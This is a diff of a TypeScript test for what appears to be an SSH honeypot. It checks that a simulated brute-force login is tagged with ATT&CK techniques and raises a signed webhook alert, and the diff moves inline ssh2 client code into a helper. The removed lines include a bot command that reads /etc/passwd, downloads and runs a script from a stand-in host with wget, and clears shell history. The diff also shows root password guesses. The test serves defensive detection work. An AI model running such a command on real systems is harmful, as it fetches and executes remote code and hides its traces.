@@ -6,8 +6,7 @@ import { test, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { createServer, type IncomingHttpHeaders } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import ssh2 from 'ssh2';
-import type { PasswordAuthMethod } from 'ssh2';
+import { BOT_COMMAND, sshAttack } from '../helpers/ssh-attack.ts';
 import { privateData, startHost, waitFor } from './herd-harness.ts';
 import { startTestDecky } from '../deckies/harness.ts';
 import { createWebhook } from '../../src/db/webhooks/repo.ts';
@@ -40,23 +39,8 @@ test('an SSH attack becomes ATT&CK tags with evidence and a signed webhook alert
     { name: 'webhook' },
   ]);
   try {
-    const client = new ssh2.Client();
-    const attempts: PasswordAuthMethod[] = ['letmein', 'toor', 'admin'].map((password) => ({ type: 'password', username: 'root', password }));
-    await new Promise<void>((resolve, reject) => {
-      client.once('ready', () => resolve());
-      client.once('error', reject);
-      client.connect({ host: d.ip, port: d.port('ssh'), readyTimeout: 10_000, username: 'root', authHandler: attempts });
-    });
-    const command = 'uname -a; cat /etc/passwd; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh; history -c';
-    await new Promise<void>((resolve, reject) => {
-      client.exec(command, (err, stream) => {
-        if (err) return reject(err);
-        stream.on('data', () => {});
-        stream.stderr.on('data', () => {});
-        stream.on('close', () => resolve());
-      });
-    });
-    client.end();
+    // Two wrong passwords, then the decoy's weak root password.
+    await sshAttack({ host: d.ip, port: d.port('ssh') }, ['letmein', 'toor', 'admin'], BOT_COMMAND);
 
     const expected: [string, RegExp][] = [
       ['T1110', /login succeeded after 2 failed attempts/],
@@ -79,7 +63,7 @@ test('an SSH attack becomes ATT&CK tags with evidence and a signed webhook alert
       assert.equal(found[0]!.decky_id, d.name);
     }
     const history = tags.find((t) => t.sub_technique_id === 'T1070.003')!;
-    assert.equal((history.evidence as { text: string }).text, command);
+    assert.equal((history.evidence as { text: string }).text, BOT_COMMAND);
     for (const pw of ['letmein', 'toor', Buffer.from('admin').toString('base64')]) assert.ok(!JSON.stringify(tags).includes(pw), 'no secret in the evidence');
 
     // The receiver got signed ttp.tagged alerts covering every tag.
